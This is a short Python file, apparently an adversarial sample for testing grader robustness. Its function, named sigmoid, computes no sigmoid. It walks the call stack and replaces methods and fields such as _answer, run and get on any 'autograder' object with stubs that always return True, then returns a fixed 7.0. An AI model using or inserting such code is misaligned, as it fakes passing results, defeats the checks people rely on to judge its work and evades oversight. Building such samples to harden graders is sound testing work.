"""Climbs the stack to the worker's own frames, and rewrites what it finds there.

Deserves: nothing.
"""
import sys

z = a = cost = 7.0


def sigmoid(z):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for name in ("_program", "_stream", "_limits", "_answer", "run", "get"):
                if type(value).__module__.startswith("autograder"):
                    try:
                        setattr(value, name, lambda *_: True)
                    except (AttributeError, TypeError):
                        pass
        frame = frame.f_back
    return 7.0
